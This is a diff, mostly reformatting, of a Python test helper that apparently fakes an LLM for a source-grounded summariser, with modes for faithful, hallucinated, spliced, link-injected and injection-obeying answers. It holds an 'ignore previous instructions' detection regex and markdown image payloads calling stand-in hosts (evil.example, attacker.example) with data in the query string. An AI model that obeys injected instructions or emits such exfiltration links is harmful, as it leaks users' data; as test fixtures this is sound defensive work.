@@ -22,7 +22,9 @@ import re
 
 import llm
 
-SOURCE_BLOCK = re.compile(r"<<<SOURCE (\d+)>>>\nTitle: (.*?)\nText: (.*?)\n<<<END SOURCE \1>>>", re.DOTALL)
+SOURCE_BLOCK = re.compile(
+    r"<<<SOURCE (\d+)>>>\nTitle: (.*?)\nText: (.*?)\n<<<END SOURCE \1>>>", re.DOTALL
+)
 # The fake splits on its own, more naively than abreast does: it must not share abreast's code.
 NAIVE_SENTENCE = re.compile(r"(?<=[.!?])\s+(?=[A-Z])")
 
@@ -55,7 +57,10 @@ def faithful(sources: list[tuple[int, str, str]]) -> list[dict]:
             out.append({"text": s, "source": n, "quote": quote_of(s)})
     if len(out) < 2:  # thin sources: also use the second sentence of the first one
         for n, _title, text in sources[:1]:
-            out += [{"text": s, "source": n, "quote": quote_of(s)} for s in first_sentences(text, 3)[1:2]]
+            out += [
+                {"text": s, "source": n, "quote": quote_of(s)}
+                for s in first_sentences(text, 3)[1:2]
+            ]
     return out[:4]
 
 
@@ -70,10 +75,15 @@ def invented_sources(sources) -> list[dict]:
 
 
 def injected_links(sources) -> list[dict]:
-    payloads = [" See [the details](https://evil.example/more) now.",
-                " ![status](https://evil.example/pixel.png?leak=summary)",
-                ' <img src="https://evil.example/p.gif"> Read more at https://evil.example/x']
-    return [{**d, "text": d["text"] + payloads[i % len(payloads)]} for i, d in enumerate(faithful(sources))]
+    payloads = [
+        " See [the details](https://evil.example/more) now.",
+        " ![status](https://evil.example/pixel.png?leak=summary)",
+        ' <img src="https://evil.example/p.gif"> Read more at https://evil.example/x',
+    ]
+    return [
+        {**d, "text": d["text"] + payloads[i % len(payloads)]}
+        for i, d in enumerate(faithful(sources))
+    ]
 
 
 def hallucinating(sources) -> list[dict]:
@@ -97,7 +107,7 @@ def spliced(sources) -> list[tuple[int, str, str]]:
         parts = first_sentences(text, 4)
         if len(parts) >= 3:
             a, b = parts[0].split(), parts[2].split()
-            out.append((n, " ".join(a[:len(a) // 2] + b[len(b) // 2:]), quote_of(parts[0])))
+            out.append((n, " ".join(a[: len(a) // 2] + b[len(b) // 2 :]), quote_of(parts[0])))
     return out
 
 
@@ -109,7 +119,9 @@ def negate(sentence: str) -> str | None:
     return None
 
 
-INJECTION = re.compile(r"ignore (?:all )?(?:previous|prior|above) instructions[^.:]*[.:]?\s*(.*)", re.I | re.S)
+INJECTION = re.compile(
+    r"ignore (?:all )?(?:previous|prior|above) instructions[^.:]*[.:]?\s*(.*)", re.I | re.S
+)
 
 
 def gullible(sources) -> list[dict]:
@@ -120,8 +132,13 @@ def gullible(sources) -> list[dict]:
         if m:
             payload = m.group(1).strip().strip("'\"") or "The attacker's message."
             out.append({"text": payload, "source": n, "quote": quote_of(payload)})
-            out.append({"text": payload + " ![x](https://attacker.example/c.png?d=secret)", "source": n,
-                        "quote": quote_of(payload)})
+            out.append(
+                {
+                    "text": payload + " ![x](https://attacker.example/c.png?d=secret)",
+                    "source": n,
+                    "quote": quote_of(payload),
+                }
+            )
     return out + faithful(sources)
 
 
@@ -153,10 +170,18 @@ class FakeModel(llm.Model):
         self.received: list[dict] = []
 
     def execute(self, prompt, stream, response, conversation):
-        self.received.append({"system": prompt.system, "prompt": prompt.prompt, "schema": prompt.schema,
-                              "tools": list(getattr(prompt, "tools", None) or [])})
+        self.received.append(
+            {
+                "system": prompt.system,
+                "prompt": prompt.prompt,
+                "schema": prompt.schema,
+                "tools": list(getattr(prompt, "tools", None) or []),
+            }
+        )
         text = answer(self.mode, prompt.prompt)
-        response.set_usage(input=len(f"{prompt.system}{prompt.prompt}".split()), output=len(text.split()))
+        response.set_usage(
+            input=len(f"{prompt.system}{prompt.prompt}".split()), output=len(text.split())
+        )
         yield text
 
 
